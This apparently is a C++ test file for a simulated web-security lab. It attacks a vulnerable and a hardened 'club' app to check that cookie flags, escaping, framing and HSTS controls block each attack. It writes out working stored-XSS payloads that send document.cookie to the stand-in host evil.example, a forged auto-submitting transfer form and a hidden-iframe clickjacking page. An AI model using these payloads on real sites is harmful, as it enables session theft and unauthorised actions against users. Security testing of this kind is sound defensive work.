// What an attacker can do with each thing that a "position" hands him, against the vulnerable club
// and the hardened one.
#include <algorithm>

#include "core/attack/session.h"
#include "tests/core/browsing/club_world.h"
#include "tests/core/catch.h"

using namespace parapet;
using namespace parapet::tests;
using nlohmann::json;

namespace {

http::Request form(std::string target, std::string body) {
    return {.method = "POST",
            .target = std::move(target),
            .headers = {{"content-type", "application/x-www-form-urlencoded"}},
            .body = std::move(body)};
}

void sign_in_as_attacker(attack::Target& target) {
    auto const& account = target.surface().attacker;
    target.send(form("/login", "username=" + account.username + "&password=" + account.password));
}

void comment(attack::Target& target, std::string const& encoded) {
    sign_in_as_attacker(target);
    target.send(form("/comments", "text=" + encoded));
}

// The value of the cookie in a text such as "/c?sid=…".
std::string session_in(std::string const& text) {
    std::size_t const at = text.find("sid=");
    return at == std::string::npos ? "" : text.substr(at + 4, 32);
}

void use_session(attack::Target& target, std::string const& session) {
    if (session.empty()) return;
    target.send({.target = "/", .headers = {{"cookie", "sid=" + session}}});
}

reference::ClubStyle hardened() { return {}; }
reference::ClubStyle vulnerable() { return reference::ClubStyle::vulnerable(); }

// A comment with a script that sends away what it can reach, and the use of what came of it.
Attack steal_by(std::string payload) {
    return [payload](attack::Target& target) {
        target.host("evil.example")->answer("/c", {.status = 204});
        comment(target, payload);
        target.victim()->does("signs in");
        target.victim()->does("reads the comments");
        for (http::Request const& got : target.host("evil.example")->received())
            use_session(target, session_in(got.target + got.body));
    };
}

}  // namespace

TEST_CASE("position: a stored script sends the session to evil.example", "[browsing][attack]") {
    for (char const* payload :
         {"<script>new Image().src='//evil.example/c?'%2Bdocument.cookie</script>",
          "<img src=x onerror=\"fetch('https://evil.example/c',{method:'POST',mode:'no-cors',"
          "body:document.cookie})\">",
          "<script>location='https://evil.example/c?'%2Bdocument.cookie</script>",
          "<form id=f method=post action=https://evil.example/c><input name=sid id=i></form>"
          "<script>document.getElementById('i').value=document.cookie.split('=')[1];"
          "document.getElementById('f').submit()</script>"}) {
        CAPTURE(payload);
        ClubWorld club(vulnerable());
        CHECK(has_effect(club.attack(victim_and_evil(), steal_by(payload)), "learned:private"));
        CHECK(club.scripts.faults.empty());
        auto const blocked = ClubWorld(hardened()).attack(victim_and_evil(), steal_by(payload));
        CHECK(blocked["outcome"] == "blocked");
        CHECK(blocked["control"]["kind"] == "escaped");
        CHECK(blocked["control"]["intended"] == false);
    }
}

TEST_CASE("position: HttpOnly alone keeps the session back, and is named as the control",
          "[browsing][attack]") {
    auto style = vulnerable();
    style.cookie = "Path=/; HttpOnly";
    ClubWorld club(style);
    auto const entry = club.attack(
        victim_and_evil(),
        steal_by("<script>new Image().src='//evil.example/c?'%2Bdocument.cookie</script>"));
    CHECK(entry["outcome"] == "blocked");
    CHECK(entry["control"]["kind"] == "cookie");
    CHECK(entry["control"]["intended"] == true);
    CHECK(entry["browser"].dump().find("It is HttpOnly") != std::string::npos);
}

TEST_CASE("position: what evil.example is sent has been received", "[browsing][attack]") {
    ClubWorld club(vulnerable());
    auto const entry = club.attack(victim_and_evil(), [](attack::Target& target) {
        comment(target,
                "<script>fetch('/').then(r=>r.text()).then(t=>navigator.sendBeacon("
                "'https://evil.example/c',t))</script>");
        target.victim()->does("signs in");
        target.victim()->does("reads the comments");
    });
    CHECK(has_effect(entry, "learned:private"));
    auto const exchange =
        std::find_if(entry["trace"].begin(), entry["trace"].end(), [](json const& one) {
            return one["deciding"] == true && one["request"].value("host", "") == "evil.example";
        });
    REQUIRE(exchange != entry["trace"].end());
    CHECK((*exchange)["actor"] == "ada");
}

namespace {

constexpr char kForgedForm[] =
    "<form id=f method=post action=https://club.example/transfer><input name=to value=X>"
    "<input name=amount value=50></form><script>document.getElementById('f').submit()</script>";

void forge(attack::Target& target) {
    std::string html = kForgedForm;
    html.replace(html.find("value=X"), 7, "value=" + target.surface().attacker.username);
    target.host("evil.example")->answer("/win", attack::page(html));
    target.victim()->does("signs in");
    target.wait(std::chrono::minutes(5));
    target.victim()->opens("https://evil.example/win");
}

}  // namespace

TEST_CASE("position: a forged form moves the victim's points unless the cookie stays",
          "[browsing][attack]") {
    auto const entry = ClubWorld(vulnerable()).attack(victim_and_evil(), forge);
    CHECK(has_effect(entry, "changed"));
    auto style = vulnerable();
    style.cookie = "Path=/; Secure; SameSite=Lax";
    auto const blocked = ClubWorld(style).attack(victim_and_evil(), forge);
    CHECK(blocked["outcome"] == "blocked");
    CHECK(blocked["control"]["kind"] == "cookie");
    style.cookie = "Path=/; Secure";  // an old browser knows no default
    CHECK_FALSE(has_effect(ClubWorld(style).attack(victim_and_evil(), forge), "changed"));
    json old = victim_and_evil();
    old["browser"] = "old";
    CHECK(has_effect(ClubWorld(style).attack(old, forge), "changed"));
    auto guarded = vulnerable();
    guarded.transfers = reference::ClubStyle::Transfers::Guarded;
    auto const refused = ClubWorld(guarded).attack(victim_and_evil(), forge);
    CHECK(refused["outcome"] == "blocked");
    CHECK(refused["control"]["kind"] == "validation");
}

TEST_CASE("position: what a person changes of his own will is no gain", "[browsing][attack]") {
    auto const entry = ClubWorld(vulnerable()).attack(victim_and_evil(), [](auto& target) {
        target.victim()->does("signs in");
        CHECK(target.victim()->does("transfers") == attack::Outcome::Done);
    });
    CHECK(entry["outcome"] == "blocked");
    auto const after = ClubWorld(vulnerable()).attack(victim_and_evil(), [](auto& target) {
        target.victim()->does("signs in");
        target.victim()->does("transfers");
        forge(target);
    });
    CHECK(has_effect(after, "changed"));
}

namespace {

// The form's button is the third thing in its page, and so is what the victim sees.
void frame_the_form(attack::Target& target) {
    std::string const to = target.surface().attacker.username;
    target.host("evil.example")
        ->answer("/",
                 attack::page("<button style='position:absolute;left:0;top:60px'>Win</button>"
                              "<iframe src='https://club.example/transfer?amount=50&to=" +
                              to +
                              "' style='position:absolute;left:0;top:0;width:400px;height:400px;"
                              "opacity:0;z-index:2'></iframe>"));
    target.victim()->does("signs in");
    target.victim()->opens("https://evil.example/");
    CHECK(target.victim()->clicks("Win") == attack::Outcome::Done);
    CHECK(target.victim()->clicks("Lose") == attack::Outcome::Hindered);
}

}  // namespace

TEST_CASE("position: a click meets what lies over the place, unless it may not be framed",
          "[browsing][attack]") {
    auto style = vulnerable();
    style.transfers = reference::ClubStyle::Transfers::Guarded;  // the form is the app's own
    auto const entry = ClubWorld(style).attack(victim_and_evil(), frame_the_form);
    CHECK(has_effect(entry, "changed"));
    CHECK(entry["browser"].dump().find("Clickjacking") != std::string::npos);
    style.headers = {{"x-frame-options", "DENY"}};
    auto const blocked = ClubWorld(style).attack(victim_and_evil(), frame_the_form);
    CHECK(blocked["outcome"] == "blocked");
    CHECK(blocked["control"]["kind"] == "framing");
}

TEST_CASE("position: on the line all that is not TLS is read", "[browsing][attack]") {
    json position = victim_and_evil();
    position["line"] = true;
    auto const listen = [](attack::Target& target) {
        target.line()->strip();
        target.victim()->does("types the address");
        for (attack::Passed const& passed : target.line()->passed())
            if (passed.response)
                use_session(target,
                            session_in(passed.response->headers.get("set-cookie").value_or("")));
        target.line()->leave();
    };
    auto style = vulnerable();
    style.cookie = "Path=/; HttpOnly";
    CHECK(has_effect(ClubWorld(style).attack(position, listen), "learned:private"));
    // Without HSTS a redirect alone is stripped away.
    style.plain = reference::ClubStyle::Plain::Redirected;
    CHECK(has_effect(ClubWorld(style).attack(position, listen), "learned:private"));
    // With HSTS it depends on whether the browser has been there before.
    style.headers = {{"strict-transport-security", "max-age=86400"}};
    CHECK(has_effect(ClubWorld(style).attack(position, listen), "learned:private"));
    auto const after_days = [&listen](int days) {
        return [&listen, days](attack::Target& target) {
            target.victim()->does("looks at home");
            target.wait(std::chrono::hours(24 * days));
            listen(target);
        };
    };
    auto const blocked = ClubWorld(style).attack(position, after_days(0));
    CHECK(blocked["outcome"] == "blocked");
    CHECK(blocked["control"]["kind"] == "transport");
    CHECK(has_effect(ClubWorld(style).attack(position, after_days(2)), "learned:private"));
}

TEST_CASE("position: without the line nothing of it is known", "[browsing][attack]") {
    auto const entry = ClubWorld(vulnerable()).attack(victim_and_evil(), [](auto& target) {
        CHECK(target.line() == nullptr);
        CHECK(target.seat() == nullptr);
        CHECK(target.leaks() == nullptr);
        CHECK(target.host("blog.club.example") == nullptr);
        target.victim()->does("signs in");
        target.victim()->does("looks at home");
    });
    CHECK(entry["outcome"] == "blocked");
}

TEST_CASE("position: who meddles leads to http, where only Secure cookies stay at home",
          "[browsing][attack]") {
    json position = victim_and_evil();
    position["line"] = true;
    auto const lead_to_http = [](attack::Target& target) {
        target.victim()->does("signs in");
        target.line()->meddle([](http::Request const& request, auto const& beyond) {
            CHECK(request.scheme == "http");
            if (request.host != "plain.example") return beyond(request);
            return http::Response{
                .status = 302, .headers = {{"location", "http://club.example/"}}, .body = {}};
        });
        target.victim()->opens("http://plain.example/");
        target.line()->leave();
        target.victim()->opens("http://club.example/comments");
        CHECK(target.line()->passed().size() == 3);  // with the page's script
        for (attack::Passed const& passed : target.line()->passed())
            use_session(target, session_in(passed.request->headers.get("cookie").value_or("")));
    };
    auto style = hardened();
    style.headers = {};
    style.cookie = "Path=/; HttpOnly; SameSite=Lax";
    style.plain = reference::ClubStyle::Plain::Served;
    CHECK(has_effect(ClubWorld(style).attack(position, lead_to_http), "learned:private"));
    style.cookie += "; Secure";
    auto const blocked = ClubWorld(style).attack(position, lead_to_http);
    CHECK(blocked["outcome"] == "blocked");
    CHECK(blocked["control"]["kind"] == "cookie");
}

TEST_CASE("position: TLS that is cut gives no answer and tells the host's name alone",
          "[browsing][attack]") {
    json position = victim_and_evil();
    position["line"] = true;
    ClubWorld(hardened()).attack(position, [](attack::Target& target) {
        target.line()->listen();
        target.victim()->does("looks at home");
        target.line()->set_tls(attack::Line::Tls::IsCut);
        CHECK(target.victim()->does("signs in") == attack::Outcome::Hindered);
        REQUIRE_FALSE(target.line()->passed().empty());
        CHECK(target.line()->passed().front().host == "club.example");
        for (attack::Passed const& passed : target.line()->passed()) CHECK_FALSE(passed.request);
    });
}

TEST_CASE("position: a leaked session is worth something until it has ended",
          "[browsing][attack]") {
    json position = victim_and_evil();
    position["leaks"] = {"browser", "database", "log"};
    auto const after_logout = [](std::function<std::string(attack::Leaks&)> session) {
        return [session](attack::Target& target) {
            target.victim()->does("signs in");
            std::string const stolen = session(*target.leaks());
            CHECK(stolen.size() == 32);
            target.victim()->does("signs out");
            use_session(target, stolen);
        };
    };
    auto const of_browser = after_logout([](attack::Leaks& leaks) {
        for (attack::LeakedValue const& one : leaks.browser())
            if (one.name == "sid") return one.value;
        return std::string();
    });
    CHECK(has_effect(ClubWorld(vulnerable()).attack(position, of_browser), "learned:private"));
    CHECK_FALSE(has_effect(ClubWorld(hardened()).attack(position, of_browser), "learned:private"));
    auto const of_log = after_logout([](attack::Leaks& leaks) {
        std::string const line = leaks.log().empty() ? "" : leaks.log().back();
        return line.size() < 32 ? std::string() : line.substr(line.size() - 32);
    });
    CHECK(has_effect(ClubWorld(vulnerable()).attack(position, of_log), "learned:private"));
    // The dump holds everything, and to hold it is no gain.
    auto const dump = ClubWorld(vulnerable()).attack(position, [](attack::Target& target) {
        CHECK(target.leaks()->database().find("INSERT INTO") != std::string::npos);
    });
    CHECK(dump["outcome"] == "blocked");
}

TEST_CASE("position: who sits down at the computer sees what back shows", "[browsing][attack]") {
    json position = victim_and_evil();
    position["seat"] = true;
    auto const sit_down = [](attack::Target& target) {
        target.victim()->does("signs in");
        target.victim()->does("signs out");
        target.seat()->back();
        target.seat()->back();
    };
    auto style = hardened();
    CHECK(has_effect(ClubWorld(style).attack(position, sit_down), "learned:private"));
    style.headers.append("cache-control", "no-store");
    CHECK_FALSE(has_effect(ClubWorld(style).attack(position, sit_down), "learned:private"));
}

TEST_CASE("position: a sibling host sets a cookie for the app, and a session that is kept is his",
          "[browsing][attack]") {
    json position = victim_and_evil();
    position["hosts"] = {"blog.club.example"};
    auto const fix = [](attack::Target& target) {
        target.host("blog.club.example")
            ->answer("/", {.status = 200,
                           .headers = {{"set-cookie", "sid=" + std::string(32, 'f') +
                                                          "; Domain=club.example; Path=/"}},
                           .body = {}});
        target.victim()->opens("https://blog.club.example/");
        target.victim()->does("signs in");
        use_session(target, std::string(32, 'f'));
    };
    auto style = vulnerable();
    CHECK(has_effect(ClubWorld(style).attack(position, fix), "learned:private"));
    style.at_login = reference::ClubStyle::Session::New;
    CHECK_FALSE(has_effect(ClubWorld(style).attack(position, fix), "learned:private"));
}

TEST_CASE("position: of a shared host only the folder is the attacker's", "[browsing][attack]") {
    json position = victim_and_evil();
    position["hosts"] = {"cdn.example"};
    ClubWorld(vulnerable()).attack(position, [](attack::Target& target) {
        attack::OwnHost& cdn = *target.host("cdn.example");
        CHECK(cdn.folder() == "/~eve/");
        cdn.answer("/~eve/x", attack::page("mine"));
        cdn.answer("/lib.js", attack::page("mine"));
        target.victim()->opens("https://cdn.example/lib.js");
        target.victim()->opens("https://cdn.example/~eve/x");
        REQUIRE(cdn.received().size() == 1);
        CHECK(cdn.received()[0].target == "/~eve/x");
    });
}

TEST_CASE("position: a routine that is hindered says why", "[browsing][attack]") {
    auto const entry = ClubWorld(hardened()).attack(victim_and_evil(), [](auto& target) {
        CHECK(target.victim()->does("signs out") == attack::Outcome::Hindered);
        CHECK(target.victim()->does("dances") == attack::Outcome::Hindered);
    });
    CHECK(entry["notes"].dump().find("ada could not go on with \\\"signs out\\\"") !=
          std::string::npos);
}

TEST_CASE("position: the same attack with the same seed gives the same entry",
          "[browsing][attack]") {
    auto const once = [] {
        return ClubWorld(vulnerable()).attack(victim_and_evil(), forge).dump();
    };
    CHECK(once() == once());
}
